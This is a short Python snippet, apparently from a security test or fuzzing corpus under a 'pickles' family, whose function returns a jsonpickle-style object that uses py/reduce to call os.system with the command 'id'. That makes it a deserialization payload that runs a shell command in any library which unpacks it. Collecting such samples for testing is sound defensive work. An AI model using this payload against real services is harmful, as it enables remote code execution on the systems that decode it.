# family: pickles
# about: Text that other libraries would make an object of.
def f(self):
    return {"py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, ["id"]]}
